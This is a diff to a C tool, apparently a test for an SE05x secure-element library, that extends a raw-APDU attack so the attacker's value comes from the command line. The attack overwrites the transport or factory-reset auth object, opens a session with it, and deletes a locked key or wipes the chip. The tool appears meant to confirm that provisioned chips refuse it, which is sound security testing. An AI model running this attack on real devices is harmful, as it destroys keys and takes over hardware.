@@ -1,8 +1,9 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* The raw-APDU attack on the reserved auth objects (docs/production.md
  * "Claim"), as any local client could run it against a chip:
- *   lifecycle_attack CONN transport KEYID   write TRANSPORT 7FFF0200 with our
- *       own value, open a session with it, delete KEYID (e.g. a locked key)
+ *   lifecycle_attack CONN transport KEYID [VALUE]   write TRANSPORT 7FFF0200
+ *       with our own value ("attacker" or VALUE), open a session with it,
+ *       delete KEYID (e.g. a locked key)
  *   lifecycle_attack CONN reset             write FACTORY_RESET 7FFF0205,
  *       open a session with it, DeleteAll
  * Exit 0: the attack SUCCEEDED (the chip is owned); 1: refused somewhere
@@ -13,7 +14,8 @@
 
 #include <se05x/se05x.h>
 
-static const uint8_t mine[8] = {'a', 't', 't', 'a', 'c', 'k', 'e', 'r'};
+static uint8_t mine[16] = {'a', 't', 't', 'a', 'c', 'k', 'e', 'r'};
+static size_t mine_len = 8;
 
 static unsigned sw_of(const uint8_t *r, size_t n)
 {
@@ -22,7 +24,7 @@ static unsigned sw_of(const uint8_t *r, size_t n)
 
 int main(int argc, char **argv)
 {
-    if (argc < 3 || (strcmp(argv[2], "transport") == 0 && argc != 4) ||
+    if (argc < 3 || (strcmp(argv[2], "transport") == 0 && argc != 4 && argc != 5) ||
         (strcmp(argv[2], "reset") == 0 && argc != 3) ||
         (strcmp(argv[2], "transport") != 0 && strcmp(argv[2], "reset") != 0)) {
         fprintf(stderr, "usage: lifecycle_attack CONN transport KEYID | CONN reset\n");
@@ -32,25 +34,31 @@ int main(int argc, char **argv)
     se05x_objid auth = transport ? 0x7FFF0200u : 0x7FFF0205u, key = 0;
     if (transport && se05x_parse_objid(argv[3], &key) != SE05X_OK)
         return 2;
+    if (argc == 5) {
+        mine_len = strlen(argv[4]);
+        if (mine_len < 4 || mine_len > 16)
+            return 2;
+        memcpy(mine, argv[4], mine_len);
+    }
     se05x_session *s = NULL;
     struct se05x_error e;
     if (se05x_open(argv[1], NULL, &s, &e) != SE05X_OK) {
         fprintf(stderr, "attack: cannot open %s: %s\n", argv[1], e.msg);
         return 2;
     }
-    uint8_t c[32] = {0x80, 0x41, 0x07, 0x00, 6 + 2 + sizeof mine, 0x41, 0x04,
+    uint8_t c[32] = {0x80, 0x41, 0x07, 0x00, (uint8_t)(6 + 2 + mine_len), 0x41, 0x04,
                      (uint8_t)(auth >> 24), (uint8_t)(auth >> 16), (uint8_t)(auth >> 8), (uint8_t)auth,
-                     0x42, sizeof mine};
-    memcpy(c + 13, mine, sizeof mine);
+                     0x42, (uint8_t)mine_len};
+    memcpy(c + 13, mine, mine_len);
     uint8_t r[64];
     size_t rl = 0;
     int rc = 1;
-    if (se05x_transceive(s, c, 13 + sizeof mine, r, sizeof r, &rl) != SE05X_OK) {
+    if (se05x_transceive(s, c, 13 + mine_len, r, sizeof r, &rl) != SE05X_OK) {
         rc = 2;
         goto out;
     }
     printf("WriteUserID 0x%08X with the attacker's value: SW %04X\n", auth, sw_of(r, rl));
-    if (se05x_auth_open_userid(s, auth, mine, sizeof mine) != SE05X_OK) {
+    if (se05x_auth_open_userid(s, auth, mine, mine_len) != SE05X_OK) {
         printf("session with 0x%08X refused: %s\n", auth, se05x_errmsg(s));
         goto out;
     }
